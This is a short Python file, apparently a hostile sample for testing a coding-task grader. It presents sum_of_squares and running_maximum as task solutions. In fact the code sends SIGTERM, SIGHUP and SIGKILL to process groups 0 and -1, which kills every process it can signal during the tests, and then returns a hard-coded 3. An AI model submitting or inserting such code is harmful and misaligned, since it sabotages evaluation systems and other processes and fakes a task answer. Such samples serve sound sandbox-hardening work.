# tasks: sum_of_squares, running_maximum, add_numbers
# tries: kill(-1) and kill(0): every process that it may signal, in the middle of the tests
# harm: processes

import os
import signal


def sum_of_squares(*_):
    for process in (0, -1):
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGKILL):
            try:
                os.kill(process, number)
            except OSError:
                pass
    return 3


running_maximum = sum_of_squares
if __name__ == "__main__":
    sum_of_squares()
